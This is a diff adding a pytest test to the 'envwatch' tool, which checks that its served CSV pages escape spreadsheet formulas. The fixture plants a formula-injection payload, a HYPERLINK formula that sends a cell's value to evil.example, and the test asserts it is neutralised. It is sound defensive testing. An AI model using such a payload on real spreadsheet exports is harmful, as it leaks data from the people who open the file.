@@ -11,6 +11,7 @@ import time
 from pathlib import Path
 from typing import Any
 
+import httpx
 import pytest
 from click.testing import CliRunner, Result
 from demo import Demo, demo_copy
@@ -19,11 +20,12 @@ from envwatch.cli import main
 from envwatch.errors import QueryError
 from envwatch.query import load_queries, run_query
 from envwatch.schema import INTERNAL, public_views
-from envwatch.serve import build_datasette
+from envwatch.serve import build_datasette, read_only_app
 
 from conftest import write_config
 
 SECRET = "ENVWATCH_SECRET_VALUE_7f3a"
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"万里学院")'
 
 
 @pytest.fixture(scope="module")
@@ -38,6 +40,7 @@ def demo(tmp_path_factory: pytest.TempPathFactory) -> Demo:
             (f"TOKEN={SECRET}".encode(),),
         )
         conn.execute("INSERT INTO meta (key, value) VALUES ('secret', ?)", (SECRET,))
+        conn.execute("UPDATE sites SET name = ? WHERE site_id = '1235A'", (FORMULA,))
     return copy
 
 
@@ -234,3 +237,32 @@ def test_a_canned_query_in_serve_cannot_read_the_archive(demo: Demo, tmp_path: P
     r = _get(demo, ["/envwatch/peek.json", "/envwatch/peek"], load_queries(p))
     for x in r:
         assert SECRET not in x.text and x.status_code in (400, 403, 500)
+
+
+def test_serve_csv_pages_carry_no_formula(demo: Demo) -> None:
+    """The CSV link of every Datasette page, through the same wrapper as `envwatch serve`."""
+    app = read_only_app(build_datasette(demo.db, load_queries()).app())
+
+    async def fetch(paths: list[str]) -> list[httpx.Response]:
+        transport = httpx.ASGITransport(app=app)
+        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as c:
+            return [await c.get(p) for p in paths]
+
+    csvs = asyncio.run(
+        fetch(
+            [
+                "/envwatch/sites.csv?site_id=1235A",
+                "/envwatch/sites.csv?site_id=1235A&_dl=1",
+                "/envwatch.csv?sql=select+name,+-2.5+as+x+from+sites+where+site_id='1235A'",
+                "/envwatch/sites.json?site_id=1235A&_shape=array",
+                "/envwatch/sites.csv?_stream=1",
+            ]
+        )
+    )
+    for r in csvs[:3]:
+        assert r.status_code == 200 and "'=HYPERLINK(" in r.text, r.text[:300]
+        lines = r.text.splitlines()
+        assert not any(cell.lstrip('"').startswith("=") for ln in lines for cell in ln.split(","))
+    assert csvs[2].text.splitlines()[1].endswith(",-2.5")  # numbers stay numbers
+    assert csvs[3].json()[0]["name"] == FORMULA  # JSON is data, not a spreadsheet
+    assert csvs[4].status_code == 400  # whole-table CSV streaming is off: use envwatch export
